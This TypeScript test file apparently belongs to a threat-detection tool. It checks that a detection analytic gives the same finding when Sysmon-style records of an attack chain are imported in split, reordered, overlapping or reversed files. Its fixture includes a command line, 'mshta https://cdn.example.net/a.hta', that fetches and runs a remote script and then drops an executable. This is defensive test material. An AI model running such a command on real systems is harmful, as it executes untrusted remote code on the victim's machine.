import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { setEnvironment } from '../base/testEnvironment';
import type { Finding } from '../findings/finding';
import { closeStorage, pool } from '../storage/client';
import { createTestDatabase, type TestDatabase } from '../storage/testDatabase';
import { importWhole } from './testImports';
import { type TestRecord, toLines } from './testRecords';
import { connection, file, query, quiet, start } from './testSysmon';

const HOST = 'WS1';
const MSHTA = 'C:\\Windows\\System32\\mshta.exe';

/** A chain with telemetry before and after it, in order of time. */
const RECORDS: readonly TestRecord[] = [
  ...quiet(HOST, '2026-11-20T08:00', 12),
  start(HOST, '2026-11-20T09:00:00', 1, MSHTA, 'mshta https://cdn.example.net/a.hta'),
  query(HOST, '2026-11-20T09:00:01', 1, 'cdn.example.net', '198.51.100.7'),
  connection(HOST, '2026-11-20T09:00:02', 1, '198.51.100.7'),
  file(HOST, '2026-11-20T09:00:04', 1, 'C:\\Users\\anna\\AppData\\Local\\Temp\\a.exe'),
  ...quiet(HOST, '2026-11-20T09:10', 12),
];
const CHAIN = 12;

let database: TestDatabase;
let spoolDir: string;

beforeEach(async () => {
  spoolDir = await mkdtemp(path.join(os.tmpdir(), 'sequela-spool-'));
});
afterEach(async () => {
  await rm(spoolDir, { recursive: true, force: true });
});

/** What a database of its own finds in these files, imported one after the other. */
async function found(files: readonly (readonly TestRecord[])[]): Promise<readonly unknown[]> {
  database = await createTestDatabase();
  const restore = setEnvironment({ DATABASE_URL: database.url });
  try {
    for (const [i, records] of files.entries()) await importWhole(toLines(records), `${i}.json`, spoolDir);
    const { rows } = await pool().query<{ body: Finding }>('SELECT body FROM findings ORDER BY id');
    return rows.map((row) => withoutPlaces(row.body));
  } finally {
    await closeStorage();
    restore();
    await database.drop();
  }
}

/** Where a record lies is the file's; what it says is not. */
function withoutPlaces(finding: Finding): unknown {
  return JSON.parse(JSON.stringify(finding, (key, value: unknown) => (key === 'place' ? undefined : value)));
}

it('gives the finding of one import from two: cut at any record of the chain, in either order, overlapping, late, reversed', async () => {
  const whole = await found([RECORDS]);
  expect(whole).toMatchObject([{ analytic: 'AN1397', status: 'complete' }]);
  for (const at of [CHAIN, CHAIN + 1, CHAIN + 2, CHAIN + 3]) {
    const [early, late] = [RECORDS.slice(0, at), RECORDS.slice(at)];
    expect(await found([early, late]), `cut at ${at}`).toEqual(whole);
    expect(await found([late, early]), `cut at ${at}, the later first`).toEqual(whole);
  }
  const [first, ...rest] = [
    RECORDS.slice(CHAIN, CHAIN + 1),
    RECORDS.slice(0, CHAIN),
    RECORDS.slice(CHAIN + 1),
  ];
  expect(await found([...rest, first ?? []]), 'the anchor last').toEqual(whole);
  expect(await found([[...RECORDS].reverse()]), 'reversed').toEqual(whole);
  expect(await found([RECORDS.slice(0, CHAIN + 3), RECORDS.slice(CHAIN - 2)]), 'overlapping').toEqual(whole);
}, 600_000);
